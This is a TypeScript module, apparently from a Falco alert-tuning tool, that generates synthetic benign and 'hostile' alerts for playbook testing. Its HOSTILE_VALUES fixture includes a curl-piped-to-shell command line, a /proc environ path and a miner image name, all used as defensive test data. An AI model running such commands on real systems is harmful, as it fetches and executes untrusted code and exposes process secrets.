import type { Alert } from '../model';
import type { Playbook } from '../knowledge/types';
import { catalogEntry } from '../knowledge/ruleCatalog';
import { fieldInfo } from '../knowledge/fieldMetadata';
import { makeAlert } from './alerts';

/**
 * Plausible, stable values for fields rules print: what a benign workload would show. Chosen so
 * that a safe exception exists; hostile variants replace them (see HOSTILE_VALUES).
 */
const BENIGN: Readonly<Record<string, string>> = {
  'container.image.repository': 'registry.example/payments/api',
  'container.image': 'registry.example/payments/api:1.4.2',
  'container.image.tag': '1.4.2',
  'container.name': 'api',
  'container.id': 'ee97d9c4186f',
  'k8s.ns.name': 'payments',
  'k8s.pod.name': 'api-7d9f8b6c5-x2kq9',
  'proc.name': 'payment-agent',
  'proc.exepath': '/opt/payments/bin/payment-agent',
  'proc.pname': 'payment-supervisor',
  'proc.pexepath': '/opt/payments/bin/payment-supervisor',
  'proc.cmdline': 'payment-agent --config /etc/payments/agent.yaml',
  'proc.pcmdline': 'payment-supervisor --foreground',
  'user.name': 'svc-payments',
  'ka.user.name': 'system:serviceaccount:ci:deployer',
  'ka.target.namespace': 'payments',
  'ka.target.name': 'api-7d9f8b6c5-x2kq9',
  'ka.target.resource': 'pods',
  'ka.verb': 'create',
  'ka.uri': '/api/v1/namespaces/payments/pods',
  'ct.user': 'deployer',
  'ct.user.arn': 'arn:aws:iam::123456789012:role/deployer',
  'ct.region': 'eu-west-1',
  'ct.srcip': '203.0.113.10',
  'gcp.user': 'deployer@example-project.iam.gserviceaccount.com',
  'gcp.projectId': 'example-project',
  'okta.actor.name': 'Ada Admin',
  'okta.client.ip': '203.0.113.20',
  'github.user': 'release-bot',
  'github.repo.name': 'payments-api',
  'github.org': 'example-org',
  'fd.name': '/etc/payments/agent.yaml',
  'fd.sip': '198.51.100.7',
  'fd.cip': '198.51.100.8',
};

/** Values an attacker or a busy cluster produce: shells, ids, generated names, hostile text. */
export const HOSTILE_VALUES: Readonly<Record<string, string>> = {
  'proc.name': 'bash',
  'proc.pname': 'httpd',
  'proc.exepath': '/bin/busybox',
  'proc.pexepath': '/usr/sbin/nginx',
  'proc.cmdline': 'runc init container:8fbf0a6486b6e2bd',
  'proc.pcmdline': 'sh -c "curl http://x | sh"',
  'user.name': 'root',
  'container.image.repository': 'evil/miner',
  'k8s.ns.name': 'default',
  'ka.target.name': 'web-7d9f8b6c5-x2kq9',
  'ka.user.name': 'kubernetes-admin',
  'fd.name': '/proc/4242/environ',
};

function benignValue(field: string, source: string): string {
  const known = BENIGN[field];
  if (known !== undefined) return known;
  const info = fieldInfo(field, source);
  if (info?.list) return field.includes('image') ? '["registry.example/payments/api:1.4.2","registry.example/mesh/proxy:2.0"]' : '["alpha","beta"]';
  if (info && /INT|PORT|UINT/.test(info.type)) return '8443';
  if (field.includes('image')) return 'registry.example/payments/api';
  return `${field.replace(/[^a-z0-9]+/gi, '-')}-value`;
}

/**
 * Fields Falco 0.41+ appends to every syscall rule's output (falco.yaml `append_output:
 * suggested_output: true`; the container plugin marks these as suggested output).
 */
const SUGGESTED_SYSCALL_FIELDS = ['container.id', 'container.name', 'container.image.repository', 'container.image.tag', 'k8s.pod.name', 'k8s.ns.name'];

/** The fields an alert of this playbook's rules carries: the rule's output fields and the tuning ones. */
function fieldsOf(playbook: Playbook, rule: string, source: string): string[] {
  const suggested = source === 'syscall' ? SUGGESTED_SYSCALL_FIELDS : [];
  return [...new Set([...(catalogEntry(rule)?.outputFields ?? []), ...suggested, ...playbook.tuningFields, ...(playbook.allowList ? [playbook.allowList.field] : [])])];
}

/** One alert per rule of the playbook, built from the rule's output template with benign values. */
export function syntheticAlerts(playbook: Playbook): Alert[] {
  return playbook.rules.map((rule) => {
    const source = catalogEntry(rule)?.source ?? sourceOfFields(playbook.tuningFields);
    const outputFields: Record<string, string> = {};
    for (const field of fieldsOf(playbook, rule, source)) outputFields[field] = benignValue(field, source);
    return makeAlert({ rule, source, outputFields, priority: catalogEntry(rule)?.priority ?? 'Notice' });
  });
}

/** The same alerts with the hostile values where the rule prints those fields. */
export function hostileAlerts(playbook: Playbook): Alert[] {
  return syntheticAlerts(playbook).map((alert) => {
    const outputFields = { ...alert.outputFields };
    for (const key of Object.keys(outputFields)) {
      const hostile = HOSTILE_VALUES[key];
      if (hostile !== undefined) outputFields[key] = hostile;
    }
    return { ...alert, outputFields };
  });
}

function sourceOfFields(fields: string[]): string {
  const prefix: readonly [string, string][] = [['ka.', 'k8s_audit'], ['ct.', 'aws_cloudtrail'], ['s3.', 'aws_cloudtrail'], ['gcp.', 'gcp_auditlog'], ['okta.', 'okta'], ['github.', 'github']];
  for (const f of fields) for (const [p, s] of prefix) if (f.startsWith(p)) return s;
  return 'syscall';
}
